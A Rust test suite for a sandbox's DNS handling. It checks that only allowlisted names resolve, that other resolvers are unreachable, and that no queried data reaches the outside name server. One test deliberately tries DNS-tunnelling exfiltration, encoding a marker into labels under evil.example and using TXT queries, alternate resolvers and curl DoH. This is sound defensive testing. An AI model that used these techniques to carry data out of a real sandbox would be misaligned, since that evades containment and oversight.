//! What names resolve to inside, and that queries cannot carry anything out.

use serde_json::{Value, json};

use crate::harness::{Sandbox, internet_log, internet_log_end, unique};

// R-37
#[test]
fn an_allowed_name_has_an_address_and_no_other_record() {
    let seen = Sandbox::new().probe(
        r#"
kinds = [kind for kind in TYPES if kind not in ("A", "ANY")]
# As musl does it: both questions at once over one socket, AAAA answered first or not at all.
def musl(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((ROUTER, 53))
        s.send(question(name, "AAAA")); s.send(question(name, "A"))
        return sorted((answer(s.recv(4096)) for _ in range(2)), key=len)
show({
    "a": [dns(name) for name in ("api.example.com", "example.org", "a.b.c.example.org", "db.example.net", "git.example.net")],
    "others": [dns(name, kind) for name in ("api.example.com", "example.org", "x.example.org", "db.example.net") for kind in kinds],
    "any": dns("api.example.com", "ANY")[0],
    "tcp": [dns("api.example.com", tcp=True), dns("api.example.com", "AAAA", tcp=True)],
    "musl": musl("api.example.com"),
    "case": dns("aPi.ExAmPlE.cOm"),
    "getent": subprocess.run(["getent", "ahosts", "api.example.com"], capture_output=True, text=True).stdout.split()[0],
})"#,
    );
    assert_eq!(seen["a"][0], json!(["NOERROR", "127.0.1.1"]));
    for one in seen["a"].as_array().unwrap() {
        assert_eq!(one[0], "NOERROR", "{seen}");
        assert!(one[1].as_str().unwrap().starts_with("127.0.1."), "{seen}");
    }
    for one in seen["others"].as_array().unwrap() {
        assert_eq!(*one, json!(["NOERROR"]), "AAAA, HTTPS and all others are NODATA: {seen}");
    }
    assert_eq!(seen["any"], "NOERROR");
    assert_eq!(seen["tcp"], json!([["NOERROR", "127.0.1.1"], ["NOERROR"]]));
    assert_eq!(seen["musl"], json!([["NOERROR"], ["NOERROR", "127.0.1.1"]]));
    assert_eq!(seen["case"], json!(["NOERROR", "127.0.1.1"]));
    assert_eq!(seen["getent"], "127.0.1.1");
}

// R-32
#[test]
fn every_other_name_is_nxdomain_whatever_is_asked() {
    let seen = Sandbox::new().probe(
        r#"
names = ("denied.example.com", "evil.example", "www.api.example.com", "example.com", "com", "api", "host.containers.internal",
         "_dns.resolver.arpa", "66.113.0.203.in-addr.arpa", "metadata.google.internal", "sandboxc.internal")
show({"other": [dns(name, kind) for name in names for kind in TYPES], "root": [dns([], kind)[0] for kind in ("NS", "A")],
      "twin": dns("api.example.com")})"#,
    );
    for one in seen["other"].as_array().unwrap() {
        assert_eq!(*one, json!(["NXDOMAIN"]), "{seen}");
    }
    assert_ne!(seen["root"][0], "EAI_AGAIN");
    assert_eq!(seen["twin"], json!(["NOERROR", "127.0.1.1"]));
}

// R-39
#[test]
fn resolv_conf_names_the_router_alone_and_localhost_resolves() {
    let sandbox = Sandbox::new();
    let mut live = sandbox.start(&[]);
    let (internal, _) = live.router_addresses();
    let conf = live.sh("cat /etc/resolv.conf");
    assert_eq!(conf, format!("nameserver {internal}\noptions ndots:1\n"), "no search line, nothing of the host's");
    let seen = live.probe(
        r#"
serve = socket.create_server(("127.0.0.1", 0))
show({"localhost": [socket.gethostbyname("localhost"), dns("localhost"), dns("a.localhost")],
      "own name": socket.gethostbyname(socket.gethostname()),
      "served": connect("localhost", serve.getsockname()[1]),
      "suffixed": [dns("api.example.com.corp.local"), dns("api.example.com.example.com")],
      "short": subprocess.run(["getent", "hosts", "api"]).returncode})"#,
    );
    assert_eq!(seen["localhost"], json!(["127.0.0.1", ["NOERROR", "127.0.0.1"], ["NOERROR", "127.0.0.1"]]));
    assert!(seen["own name"].as_str().unwrap().starts_with("127."), "{seen}");
    assert_eq!(seen["served"], "open");
    assert_eq!(seen["suffixed"], json!([["NXDOMAIN"], ["NXDOMAIN"]]));
    assert_eq!(seen["short"], 2);
}

// R-33
#[test]
fn no_other_resolver_can_be_asked() {
    let seen = Sandbox::new().probe(
        r#"
others = ("203.0.113.53", "169.254.1.1", "8.8.8.8", "192.0.2.1")
show({"other": [dns("api.example.com", server=s, tcp=tcp, timeout=2)[0] for s in others for tcp in (False, True)],
      "dot": [connect(a, 853) for a in ("203.0.113.53", ROUTER, WEB)],
      "loopback": dns("api.example.com", server="127.0.0.53")[0],
      "twin": [dns("api.example.com", server=ROUTER, tcp=tcp) for tcp in (False, True)]})"#,
    );
    for one in seen["other"].as_array().unwrap() {
        assert_eq!(one, "ENETUNREACH", "{seen}");
    }
    assert_eq!(seen["dot"], json!(["ENETUNREACH", "ECONNREFUSED", "ECONNREFUSED"]));
    assert_eq!(seen["loopback"], "ECONNREFUSED");
    assert_eq!(seen["twin"], json!([["NOERROR", "127.0.1.1"], ["NOERROR", "127.0.1.1"]]));
}

// R-30
/// The log of the test internet's name server proves it: nothing that the agent put into a query arrived there.
#[test]
fn nothing_leaves_in_a_dns_question() {
    let sandbox = Sandbox::alone();
    let (mark, start) = (unique(), internet_log_end("dns.log"));
    let seen = sandbox.probe(&format!(
        r#"
mark, count = "{mark}", 0
bases = ["evil.example", "denied.example.com", "api.example.com", "example.com", "db.example.net", "in-addr.arpa", "example.org.evil.example"]
for kind in TYPES:
    for base in bases:
        for tcp in (False, True):
            dns(f"t{{count}}-{{mark}}.{{base}}", kind, tcp=tcp)
            count += 1
for server in ("203.0.113.53", "169.254.1.1"):
    dns(f"{{mark}}.evil.example", "TXT", server=server, timeout=1)
    dns(f"{{mark}}.evil.example", "TXT", server=server, tcp=True, timeout=1)
dns([mark.encode() * 2, b"with space", b"nul\0byte", b"evil", b"example"])
dns([("%s" % mark).encode(), b"x" * 63, b"y" * 63, b"z" * 60, b"evil", b"example"], "NULL")
for name in ("evil.example", "api.example.com", "denied.example.com"):
    sni(f"{{mark}}.{{name}}"), get(f"{{mark}}.{{name}}"), get(f"{{mark}}-{{name}}"), sni(f"{{mark}}.{{name}}", ROUTER)
    http(f"GET http://{{mark}}.{{name}}/ HTTP/1.1\nHost: {{mark}}.{{name}}\n\n")
    http(f"CONNECT {{mark}}.{{name}}:443 HTTP/1.1\nHost: {{mark}}.{{name}}\n\n")
    subprocess.run(["getent", "ahosts", f"{{mark}}.{{name}}"])
    subprocess.run(["curl", "-s", "--max-time", "5", "--doh-url", f"https://{{mark}}.{{name}}/q", f"https://{{mark}}.{{name}}/"])
show([count, sni("api.example.com"), sni(f"{{mark}}-twin.wild.example.org")])"#
    ));
    assert!(seen[0].as_u64().unwrap() > 100);
    assert_eq!((&seen[1], &seen[2]), (&json!("handshake"), &json!("handshake")));
    let log = internet_log("dns.log", start);
    let asked: Vec<&str> =
        log.lines().filter_map(|line| line.split_once(": query[")?.1.split_once("] ")?.1.split(' ').next()).collect();
    let twin = format!("{mark}-twin.wild.example.org");
    let with_mark: Vec<_> = asked.iter().filter(|name| name.to_lowercase().contains(&mark)).collect();
    assert_eq!(with_mark, [&twin.as_str()], "an allowed name is asked for, and nothing else with the mark");
    let allowed = |name: &str| {
        ["api.example.com", "db.example.net", "git.example.net"].contains(&name) || name.ends_with(".example.org")
    };
    assert!(asked.iter().all(|name| allowed(name)), "{asked:?}");
}

// R-40
#[test]
fn no_record_can_carry_an_encrypted_client_hello() {
    let seen: Value = Sandbox::new().probe(
        r#"show([dns("api.example.com", kind) for kind in ("HTTPS", "SVCB")] + [dns("_443._https.api.example.com", kind) for kind in ("HTTPS", "SVCB")]
     + [dns("cloudflare-ech.com"), sni("cloudflare-ech.com"), sni("api.example.com")])"#,
    );
    let (none, nothing) = (json!(["NOERROR"]), json!(["NXDOMAIN"]));
    assert_eq!(seen, json!([none, none, nothing, nothing, nothing, "alert 112", "handshake"]));
}
